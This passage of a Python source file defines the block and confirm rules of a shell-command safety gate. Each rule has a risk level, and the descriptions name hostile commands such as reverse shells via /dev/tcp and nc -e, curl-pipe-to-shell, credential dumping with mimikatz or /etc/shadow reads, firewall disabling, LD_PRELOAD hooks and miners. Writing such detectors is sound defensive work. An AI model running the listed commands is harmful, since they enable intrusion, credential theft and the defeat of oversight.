          "chmod u+s / 4755 (or install -m 4755, setcap cap_setuid) on a shell or interpreter, or on a copy of "
          "one made in the same command: root for anyone who runs it."),
    _make("block.shell.credential-dump", "dumps password hashes", Risk.CRITICAL,
          "Reading a password database (`[files] credential_dumps`: /etc/shadow, SAM) by any program, or "
          "running a credential dumper (unshadow, mimikatz, secretsdump, reg save HKLM\\SAM)."),
    _make("block.shell.sysrq", "kernel emergency keys", Risk.CRITICAL,
          "Writing /proc/sysrq-trigger or enabling sysrq: crashes, reboots or kills everything at once."),
    _make("block.shell.malicious-persistence", "persistence that runs a network shell", Risk.CRITICAL,
          "A crontab entry, shell startup file or other persistence path written with a reverse shell or "
          "downloaded code (curl | sh, /dev/tcp, nc -e) in it."),
    _make("block.shell.defense-evasion", "switches a defence off", Risk.CRITICAL,
          "Disabling or flushing the firewall (ufw disable, iptables -F, nft flush ruleset, netsh advfirewall "
          "off), SELinux/AppArmor/Gatekeeper/SIP, auditing or a security service (`[shell] security_services`), "
          "Defender, kernel protections (ASLR), system recovery and backups (vssadmin delete shadows)."),
    _make("block.shell.loader-hook", "loads a library into every program", Risk.CRITICAL,
          "A loader variable (LD_PRELOAD, LD_AUDIT, DYLD_INSERT_LIBRARIES, ...) set in the action's env, as a "
          "`NAME=value cmd` prefix or by export: the named library runs inside every program that starts."),
    _make("confirm.shell.env-hook", "environment that makes programs run code", Risk.HIGH,
          "A variable that makes programs run or load code: start-up files (BASH_ENV, ENV, PYTHONSTARTUP), module "
          "or library paths into writable directories (PYTHONPATH=/tmp), option variables that load code "
          "(NODE_OPTIONS=--require, PERL5OPT=-M), command lines (GIT_SSH_COMMAND, PROMPT_COMMAND, LESSOPEN, a "
          "PAGER or EDITOR with shell syntax) and a PATH whose first directory is writable."),
    _make("block.shell.remote-access", "opens the machine to remote control", Risk.CRITICAL,
          "Switching on remote login, remote events, screen sharing, guest or anonymous file sharing, or remote "
          "desktop (systemsetup -setremotelogin on, sysadminctl -smbGuestAccess on, fDenyTSConnections 0)."),
    _make("block.shell.miner", "mines cryptocurrency", Risk.CRITICAL,
          "A cryptocurrency miner, known by its pool address (stratum+tcp://, well-known pools) or its tuning "
          "arguments (--donate-level, --algo rx/0): this machine's power spent for someone else."),
    _make("confirm.shell.staged-download", "saves a download where payloads hide", Risk.HIGH,
          "A download saved into a system program directory, /dev/shm, /var/tmp or a hidden name, or fetched "
          "from a bare IP address: the first half of a download that is started later."),
    _make("confirm.shell.unknown-program", "unknown program or effect", Risk.MEDIUM,
          "A program resources/programs.toml does not describe, or a flag whose value is code the gate does not "
          "model (vim -c, gdb -ex, tar --checkpoint-action, awk system(), sed e, git -c core.pager): the gate "
          "cannot tell what it does (`[shell] unknown_programs`; a policy allow rule can let it through)."),
    _make("confirm.shell.shell-spawn", "starts an interactive shell", Risk.HIGH,
          "A shell with no script, no -c and no input (`ionice /bin/sh`, `vim -c ':sh'`, `rsync -e 'sh'`): "
          "a way out of whatever wrapped it; what it will run is unknown."),
    _make("confirm.shell.recon", "looks for ways to gain privileges", Risk.MEDIUM,
          "Searches for setuid/setgid or world-writable files (find -perm -4000) and for programs with "
          "capabilities (getcap -r): the first step of a privilege escalation."),
    _make("confirm.shell.credential-search", "searches for credentials", Risk.HIGH,
          "Recursive searches for passwords, secrets, API keys or private keys (grep -r password, rg "
          "'BEGIN.*PRIVATE'), and searches for key or credential files (find -name id_rsa, locate .pem)."),
    _make("confirm.shell.remote-mutation", "changes something on another machine", Risk.MEDIUM,
          "HTTP DELETE/PUT/PATCH to a remote host (curl -X DELETE, http PUT), cloud CLI verbs that create, "
          "change or grant (aws iam create-access-key, gcloud ... add-iam-policy-binding), gh pr merge / "
          "repo edit / api -X DELETE."),
    _make("confirm.shell.desktop-input", "drives the desktop behind deskgate's back", Risk.HIGH,
          "xdotool / ydotool / wtype keystrokes and clicks, xte: input that does not pass through deskgate's "
          "GUI rules."),
    _make("confirm.shell.system-state", "changes the running system", Risk.HIGH,
          "Loading or removing kernel modules, kernel parameters (sysctl -w, /proc/sys writes), mounts and "
          "remounts, swap, immutable/ACL attributes on system files."),
    _make("confirm.shell.privilege-escalation", "runs as administrator", Risk.HIGH,
          "sudo, doas, pkexec, su, runas; setuid bits, setcap, account and password changes, containers with "
          "host-level access (--privileged, / mounted)."),
    _make("confirm.shell.destructive", "destructive command", Risk.HIGH,
          "Recursive or wildcard deletes outside regenerable directories, deletes of unknown ($VAR) targets, "
          "find -delete, shred, deleting infrastructure (kubectl delete, terraform destroy, docker prune) "
          "and database rows."),
    _make("confirm.shell.vcs-destructive", "destructive version-control command", Risk.MEDIUM,
          "git push --force / +refspec / --delete, reset --hard, clean -f, checkout --force / -- paths, "
          "restore, switch --discard-changes, branch -D, stash drop/clear, prune, filter-branch."),
    _make("confirm.shell.system-disruption", "system disruption", Risk.HIGH,
          "shutdown, reboot, halt, poweroff, init 0/6, stopping or restarting services, killing processes."),
    _make("confirm.shell.secret-read", "reads a secret", Risk.HIGH,
          "Reading keys, credentials, .env files, browser profiles, keychains or shell history "
          "(`[shell] secret_paths`, `history`, security find-generic-password, gpg --export-secret-keys)."),
    _make("confirm.shell.persistence", "makes something run later", Risk.MEDIUM,
          "crontab edits, systemctl enable, launchctl load, scheduled tasks, Run keys, writes to shell startup "
          "files, autostart, systemd units or cron directories (`[shell] persistence_paths`)."),
    _make("confirm.shell.defense-evasion", "switches a defence off or hides tracks", Risk.HIGH,
          "Clearing or switching off one's shell history (history -c, unset HISTFILE, HISTSIZE=0), Windows "
          "living-off-the-land binaries (certutil -urlcache, ...). Switching a defence off blocks."),
    _make("confirm.shell.system-write", "writes a system file", Risk.HIGH,
          "Writing or changing permissions/ownership of files under /etc or other system paths, appending "
          "to system logs."),
    _make("confirm.shell.insecure-permissions", "world-writable permissions", Risk.MEDIUM,
          "chmod 777 / o+w on a file or directory outside the system paths."),
    _make("confirm.shell.install", "installs or removes software", Risk.MEDIUM,
          "Installing named packages (pip, npm, apt, brew, cargo install, go install, ...), higher risk from a "
          "URL, git or a non-default index; uninstalling. The project's own dependencies (npm ci, pip install "
          "-r requirements.txt) do not ask."),
    _make("confirm.shell.publish", "publishes or deploys", Risk.MEDIUM,
          "npm publish, twine upload, cargo publish, docker push, kubectl apply, terraform apply, helm install, "
          "make deploy and similar: changes that leave this machine."),
    _make("confirm.shell.network", "network or firewall change, upload or listener", Risk.MEDIUM,
          "Firewall rule changes (iptables -F, nft flush, ufw deny), taking interfaces/routes down, sending "
          "output to /dev/tcp, uploading a local file (curl -d @file, -F f=@file, -T file), opening a "
          "listening socket (nc -l, socat TCP-LISTEN)."),
    _make("confirm.shell.indirect-exec", "runs code the gate cannot see", Risk.HIGH,
          "Output of another program piped into a shell, eval/bash -c of a run-time value, a script run right "
          "after it was downloaded, interpreters run by find -exec / xargs on found files."),
    _make("confirm.shell.obfuscated", "obfuscated command", Risk.HIGH,
          "De-obfuscation was needed to see what runs: $'\\x..' escapes, quotes inside a command name, $IFS as "
          "a separator, a variable or substitution as the command, base64/hex decoded into a shell, paths "
          "that climb out with '..'."),
    _make("confirm.shell.policy-pattern", "policy confirm pattern", Risk.MEDIUM,
          "A simple command matches one of the policy's `[shell] confirm_patterns`."),
    _make("confirm.shell.complex", "too complex to review", Risk.MEDIUM,
          "More simple commands than `[shell] max_commands`, or wrappers nested too deep to follow. Plain pipes "
          "and chains are not asked about (they only stop policy allow rules).", types=("shell",)),
    _make("confirm.shell.unparsable", "does not parse", Risk.HIGH,
          "The command has shell syntax errors: what it runs cannot be known for sure.", types=("shell",),
          confidence=0.5),
)
